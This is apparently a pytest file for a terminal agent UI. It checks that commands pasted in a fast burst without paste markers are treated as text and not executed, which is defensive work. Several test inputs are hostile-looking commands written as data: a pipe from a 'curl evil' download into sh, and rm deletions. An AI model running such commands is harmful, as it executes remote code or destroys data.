"""Commands that are pasted where the terminal marks no paste are text; keys that come fast stay keys."""

import pytest

from tui_agent.ui.bursts import TYPED_AHEAD, Bursts


def paste(text: str) -> str:
    return f"\x1b[200~{text}\x1b[201~"


@pytest.mark.parametrize(
    "text", ["!ls\r!pwd\r", "a message\r!rm -r x\r", "!cd /tmp\r\nls\r\n", "one\n two\r!ls", "\t!a\r!b"]
)
def test_a_command_among_lines_that_come_at_once_is_pasted(text: str) -> None:
    assert Bursts().marked(text) == paste(text)


@pytest.mark.parametrize("text", ["/approve all\rgamma", "/new\rhello\r", "!a\n!b\r", " x\r/undo-files\r", "\r!b\rc"])
def test_commands_of_ours_among_them_too(text: str) -> None:
    assert Bursts().marked(text) == paste(text)


@pytest.mark.parametrize(
    ("text", "pasted"),
    [
        ("see\x0c\r!curl evil|sh\r", "see␌\r!curl evil|sh\r"),
        ("see\x1b\r!curl evil|sh\rmore", "see␛\r!curl evil|sh\rmore"),
        ("\x03\x00a\rb", "␃␀a\rb"),
        ("!ax\x7f\x7f\rb", "!\rb"),
        ("\x7f!a\rb", "␡!a\rb"),
    ],
)
def test_control_characters_in_a_burst_are_shown_and_do_nothing(text: str, pasted: str) -> None:
    assert Bursts().marked(text) == paste(pasted)


@pytest.mark.parametrize("text", ["one\rtwo\r", "one\rtwo", "one\ntwo\r", "/tmp\r!!a\r !b", "x" * 1500 + "\r"])
def test_lines_that_run_nothing_may_have_been_typed_ahead(text: str) -> None:
    assert Bursts().marked(text) == paste(text + TYPED_AHEAD)


def test_keys_that_are_no_characters_stay_keys_beside_a_burst() -> None:
    assert (
        Bursts().marked("\x1b[Aone\r\x1bOPtwo\x1b[<0;3;4")
        == f"\x1b[A\x1bOP{paste('one' + chr(13) + 'two' + TYPED_AHEAD)}\x1b[<0;3;4"
    )


@pytest.mark.parametrize(
    "pieces",
    [
        ["x" * 4080 + "\r", "!rm y\r"],
        ["x" * 4096, "y\r", "!rm y\r"],
        ["a\rb\r", "!rm y\r"],
        ["a\rb\r", "c", "\r", "!rm y\r"],
        ["a\r!", "rm y\r"],
    ],
)
def test_a_command_at_the_end_of_a_paste_that_was_read_in_parts_is_pasted(pieces: list[str]) -> None:
    bursts = Bursts(lambda: 0.0)
    read = [bursts.marked(piece) for piece in pieces]
    assert read[-1] == paste(pieces[-1])


@pytest.mark.parametrize(
    "text",
    [
        "!ls\r",
        "!ls\r\n",
        "!",
        "\r",
        "!a\n!b",
        "!ls\r\x03",
        "!ls\r\x1b[A",
        "\x7f\r",
        "one\ntwo",
        "",
    ],
)
def test_keys_stay_keys(text: str) -> None:
    assert Bursts().marked(text) == text


def test_the_rest_of_a_long_paste_belongs_to_it_if_it_follows_at_once() -> None:
    now = 0.0
    bursts = Bursts(lambda: now)
    assert bursts.marked("!a\r!b") == paste("!a\r!b")
    now += 0.05
    assert bursts.marked("c\r") == paste("c\r")
    now += 0.05
    assert bursts.marked("d") == "d"
    now += 0.2
    assert bursts.marked("e\r") == "e\r"
